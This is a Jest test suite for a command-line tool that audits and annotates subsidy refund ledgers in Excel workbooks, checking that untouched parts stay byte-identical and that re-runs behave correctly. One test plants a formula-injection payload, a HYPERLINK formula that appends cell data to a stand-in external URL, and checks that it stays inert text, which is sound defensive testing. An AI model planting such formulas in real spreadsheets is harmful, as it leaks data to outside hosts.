import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { unzipSync, strFromU8 } from "fflate";
import { handmadeLedger, LEDGER_PART } from "./fixtures/handmade";
import { runCli } from "./run-cli";

/**
 * The workbook comes back whole: on ledgers carrying every part a real one may have, written by openpyxl
 * and by hand in the .NET `x:` style, every part other than the ledger sheet, the styles, the workbook, its
 * relationships and the content types is byte-identical, the only parts added are ours, and the ledger
 * sheet's original cells and rows are there byte for byte.
 */
const python = ["python3", "/usr/bin/python3"].find((p) => spawnSync(p, ["-c", "import openpyxl, PIL"]).status === 0);

const run = runCli;

const EXTENDED = new Set(["[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"]);

function compare(input: string, output: string, target: string) {
  const a = unzipSync(readFileSync(input));
  const b = unzipSync(readFileSync(output));
  const changed = Object.keys(a).filter((k) => b[k] === undefined || Buffer.compare(Buffer.from(a[k]!), Buffer.from(b[k]!)) !== 0);
  const added = Object.keys(b).filter((k) => a[k] === undefined);
  return { a, b, changed: changed.filter((k) => k !== target && !EXTENDED.has(k)), extended: changed, added };
}

/** Every <c>…</c> and every <row …> open tag of the original sheet, found verbatim in the new one. */
function originalElements(xml: string): string[] {
  const cells = xml.match(/<(\w+:)?c\b[^>]*?(\/>|>[\s\S]*?<\/(\w+:)?c>)/g) ?? [];
  const rows = xml.match(/<(\w+:)?row\b[^>]*>/g) ?? [];
  return [...cells, ...rows];
}

// each test runs the command in child processes, seconds each on a loaded machine
jest.setTimeout(120_000);

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), "talent-rt-"));
});

describe("hand-written x:-prefixed ledger (1904, East Asian date formats, WPS cell images, sparklines, pivot cache)", () => {
  test("audit: every other part byte-identical, the sheet's cells and rows unchanged, the 1904 dates read right", () => {
    const input = join(dir, "台账.xlsx");
    writeFileSync(input, handmadeLedger());
    const output = join(dir, "审计.xlsx");
    const r = run("audit", input, "-o", output);
    expect(r.err).not.toContain("内部错误");
    expect(r.code).toBe(0);
    // 甲: 400000 paid, 2022-07-01 → 2025-07-01 is 3 full years; 第十四条第（三）项: 400000 − 400000 ÷ 10 × 3 = 280000.
    // 乙: 150000, 2022-09-01 → 2024-09-01 is 2 years: 150000 − 15000 × 2 = 120000, while 150000 was recorded.
    // Read in the 1900 system, the dates would be four years early (2018), before the 2022 document.
    expect(r.out).toContain("一致 1，不一致 1，无法复核 0；差额合计 30000 元");
    const { a, b, changed, added } = compare(input, output, LEDGER_PART);
    expect(changed).toEqual([]);
    expect(added).toEqual(["xl/worksheets/sheet3.xml"]);
    const before = strFromU8(a[LEDGER_PART]!);
    const after = strFromU8(b[LEDGER_PART]!);
    for (const el of originalElements(before)) expect(after).toContain(el);
    // everything after the cells is the same bytes: merges, conditional formats, validations, drawing, sparklines
    expect(after.slice(after.indexOf("</x:sheetData>"))).toBe(before.slice(before.indexOf("</x:sheetData>")));
    // ours: after the used range (J has formulas, K text), visible although the sheet hides L onward
    expect(after).toContain('<x:c r="L2" s="');
    expect(after).toMatch(/<x:col min="12" max="16" width="18" customWidth="1"\/><x:col min="17" max="16384" width="9" hidden="1"\/>/);
    expect(after).toContain('<x:dimension ref="A1:P4"/>');
    // the workbook keeps its names and pivot caches; our sheet is added with its own relationship
    const wb = strFromU8(b["xl/workbook.xml"]!);
    expect(wb).toContain(strFromU8(a["xl/workbook.xml"]!).match(/<x:definedNames>[\s\S]*<\/x:definedNames>/)![0]);
    expect(wb).toMatch(/<x:sheet name="退款审计汇总" sheetId="3" r:id="rId7"\/>/);
    // the styles part: the old ones first, unchanged; ours appended
    const st = strFromU8(b["xl/styles.xml"]!);
    expect(st).toContain('<x:cellXfs count="11">');
    expect(st).toContain(strFromU8(a["xl/styles.xml"]!).match(/<x:cellXfs count="7">([\s\S]*?)<\/x:cellXfs>/)![1]!);
    // another reader opens it (exceljs cannot read x:-prefixed parts at all; openpyxl reads by namespace)
    if (python) {
      const back = spawnSync(python, ["-W", "ignore", "-c", "import openpyxl,sys; wb=openpyxl.load_workbook(sys.argv[1]); print(wb.sheetnames, wb.epoch.year, wb.worksheets[0]['N4'].value)", output], { encoding: "utf8" });
      expect(back.stderr).toBe("");
      expect(back.stdout.trim()).toBe("['补贴发放台账', '汇总', '退款审计汇总'] 1904 不一致");
    }
  });

  test("a second run updates our columns in place", () => {
    const input = join(dir, "in.xlsx");
    writeFileSync(input, handmadeLedger());
    expect(run("audit", input, "-o", join(dir, "once.xlsx")).code).toBe(0);
    expect(run("audit", join(dir, "once.xlsx"), "-o", join(dir, "twice.xlsx")).code).toBe(0);
    const once = strFromU8(unzipSync(readFileSync(join(dir, "once.xlsx")))[LEDGER_PART]!);
    const twice = strFromU8(unzipSync(readFileSync(join(dir, "twice.xlsx")))[LEDGER_PART]!);
    expect(twice).toBe(once);
    // the earlier summary is replaced in its own part, not joined by 退款审计汇总2
    const first = unzipSync(readFileSync(join(dir, "once.xlsx")));
    const parts = unzipSync(readFileSync(join(dir, "twice.xlsx")));
    const sheetParts = (p: Record<string, Uint8Array>) => Object.keys(p).filter((k) => k.startsWith("xl/worksheets/sheet")).sort();
    expect(sheetParts(parts)).toEqual(sheetParts(first));
    expect(strFromU8(parts["xl/workbook.xml"]!)).toBe(strFromU8(first["xl/workbook.xml"]!));
    expect(strFromU8(parts["xl/workbook.xml"]!).match(/退款审计汇总/g)).toHaveLength(1);
  });

  test("a second run after the file was saved again by another program still replaces its summary; a user's sheet of that name is kept", () => {
    if (!python) return;
    const input = join(dir, "in.xlsx");
    writeFileSync(input, handmadeLedger());
    expect(run("audit", input, "-o", join(dir, "once.xlsx")).code).toBe(0);
    // openpyxl writes every text as a shared string: A1 of our summary is no longer an inline string
    const resave = (from: string, to: string, extra = "") =>
      spawnSync(python, ["-c", `import openpyxl; wb = openpyxl.load_workbook(${JSON.stringify(from)}); ${extra}wb.save(${JSON.stringify(to)})`], { encoding: "utf8" });
    expect(resave(join(dir, "once.xlsx"), join(dir, "saved.xlsx")).status).toBe(0);
    expect(run("audit", join(dir, "saved.xlsx"), "-o", join(dir, "twice.xlsx")).code).toBe(0);
    const names = (f: string) => spawnSync(python, ["-c", `import openpyxl; print(openpyxl.load_workbook(${JSON.stringify(f)}).sheetnames)`], { encoding: "utf8" }).stdout.trim();
    expect(names(join(dir, "twice.xlsx"))).toBe("['补贴发放台账', '汇总', '退款审计汇总']");
    // a sheet the user named 退款审计汇总 with something else in A1 is theirs: ours goes beside it
    expect(resave(input, join(dir, "own.xlsx"), "ws = wb.create_sheet('退款审计汇总'); ws['A1'] = '本科室自己的汇总'; ").status).toBe(0);
    expect(run("audit", join(dir, "own.xlsx"), "-o", join(dir, "beside.xlsx")).code).toBe(0);
    expect(names(join(dir, "beside.xlsx"))).toBe("['补贴发放台账', '汇总', '退款审计汇总', '退款审计汇总2']");
  });

  test("ledger, audit and ledger again on one file: each job keeps the other's columns (the second breaker's finding)", () => {
    const input = join(dir, "in.xlsx");
    writeFileSync(input, handmadeLedger());
    expect(run("audit", input, "-o", join(dir, "a.xlsx")).code).toBe(0);
    expect(run("ledger", join(dir, "a.xlsx"), "-o", join(dir, "al.xlsx"), "--force").code).toBe(0);
    expect(run("audit", join(dir, "al.xlsx"), "-o", join(dir, "ala.xlsx")).code).toBe(0);
    const sheet = (f: string) => strFromU8(unzipSync(readFileSync(join(dir, f)))[LEDGER_PART]!);
    const dimension = (f: string) => /<x:dimension ref="([^"]+)"/.exec(sheet(f))![1];
    // the audit's cells survive the ledger run, and the second audit writes where the first did
    const verdicts = (f: string) => sheet(f).match(/<x:t>(一致|不一致|无法复核)<\/x:t>/g);
    expect(verdicts("a.xlsx")!.length).toBeGreaterThan(1);
    expect(verdicts("al.xlsx")).toEqual(verdicts("a.xlsx"));
    expect(verdicts("ala.xlsx")).toEqual(verdicts("a.xlsx"));
    expect(dimension("ala.xlsx")).toBe(dimension("al.xlsx"));
  });

  test("with a user's sheet named 退款审计汇总, ours is 退款审计汇总2 and a re-run replaces it rather than adding 退款审计汇总3", () => {
    if (!python) return;
    const input = join(dir, "in.xlsx");
    writeFileSync(input, handmadeLedger());
    const own = join(dir, "own.xlsx");
    const made = spawnSync(python, ["-c", `import openpyxl; wb = openpyxl.load_workbook(${JSON.stringify(input)}); ws = wb.create_sheet('退款审计汇总'); ws['A1'] = '我的笔记'; wb.save(${JSON.stringify(own)})`], { encoding: "utf8" });
    expect(made.status).toBe(0);
    expect(run("audit", own, "-o", join(dir, "1.xlsx")).code).toBe(0);
    expect(run("audit", join(dir, "1.xlsx"), "-o", join(dir, "2.xlsx")).code).toBe(0);
    expect(run("audit", join(dir, "2.xlsx"), "-o", join(dir, "3.xlsx")).code).toBe(0);
    const names = spawnSync(python, ["-c", `import openpyxl; wb = openpyxl.load_workbook(${JSON.stringify(join(dir, "3.xlsx"))}); print(wb.sheetnames, wb['退款审计汇总']['A1'].value)`], { encoding: "utf8" }).stdout.trim();
    expect(names).toBe("['补贴发放台账', '汇总', '退款审计汇总', '退款审计汇总2'] 我的笔记");
  });

  test("text from the roster stays text: =, +, -, @ never become formulas", () => {
    const input = join(dir, "in.xlsx");
    writeFileSync(input, handmadeLedger());
    // a remark column the jobs do not read, and an unknown item word echoed in the row's note
    const bad = '=HYPERLINK("http://x.example/"&A3,"x")';
    const parts = unzipSync(readFileSync(input));
    let xml = strFromU8(parts[LEDGER_PART]!);
    xml = xml.replace('<x:c r="D3" t="s"><x:v>12</x:v></x:c>', `<x:c r="D3" t="inlineStr"><x:is><x:t>${bad.replace(/&/g, "&amp;").replace(/"/g, "&quot;")}</x:t></x:is></x:c>`);
    const { zipSync, strToU8 } = require("fflate") as typeof import("fflate");
    parts[LEDGER_PART] = strToU8(xml);
    writeFileSync(input, zipSync(parts));
    expect(run("audit", input, "-o", join(dir, "out.xlsx")).code).toBe(0);
    const out = unzipSync(readFileSync(join(dir, "out.xlsx")));
    const sheet = strFromU8(out[LEDGER_PART]!);
    const formulas = sheet.match(/<x:f\b[^>]*>[^<]*<\/x:f>|<x:f\b[^>]*\/>/g) ?? [];
    expect(formulas).toEqual(['<x:f t="shared" ref="J3:J4" si="0">E3-I3</x:f>', '<x:f t="shared" si="0"/>', "<x:f>_xlfn.DISPIMG(&quot;ID_A1B2&quot;,1)</x:f>"].map((f) => f.replace(/&quot;/g, '"')));
    for (const part of Object.keys(out).filter((k) => k.startsWith("xl/worksheets/sheet3"))) expect(strFromU8(out[part]!)).not.toMatch(/<(\w+:)?f[ >]/);
  });
});

(python ? describe : describe.skip)("ledger written by openpyxl (chart, image, comment, validations, names, 1904)", () => {
  test.each(["1900", "1904"])("ledger and audit, %s date system", (system) => {
    const input = join(dir, "openpyxl.xlsx");
    const made = spawnSync(python!, [join(__dirname, "fixtures/openpyxl_ledger.py"), input, system], { encoding: "utf8" });
    expect(made.stderr).toBe("");
    for (const command of ["audit", "ledger"]) {
      const output = join(dir, `${command}.xlsx`);
      const r = run(command, input, "-o", output);
      expect(r.err).not.toContain("内部错误");
      expect(r.code).toBe(0);
      if (command === "audit") expect(r.out).toContain("一致 1，不一致 1，无法复核 0；差额合计 30000 元");
      const { a, b, changed, added } = compare(input, output, "xl/worksheets/sheet1.xml");
      expect(changed).toEqual([]);
      expect(added).toEqual(["xl/worksheets/sheet3.xml"]);
      const before = strFromU8(a["xl/worksheets/sheet1.xml"]!);
      const after = strFromU8(b["xl/worksheets/sheet1.xml"]!);
      for (const el of originalElements(before)) expect(after).toContain(el);
      expect(after.slice(after.indexOf("</sheetData>"))).toBe(before.slice(before.indexOf("</sheetData>")));
      // openpyxl reads it back, with the hidden columns still hidden right of ours
      const back = spawnSync(python!, ["-c", `import openpyxl,sys; wb=openpyxl.load_workbook(sys.argv[1]); ws=wb.worksheets[0]; print(wb.sheetnames, ws.column_dimensions['J'].hidden, ws['J2'].value)`, output], { encoding: "utf8" });
      expect(back.stderr).toBe("");
      expect(back.stdout).toContain("False 【人才政策】");
    }
  }, 60_000);
});
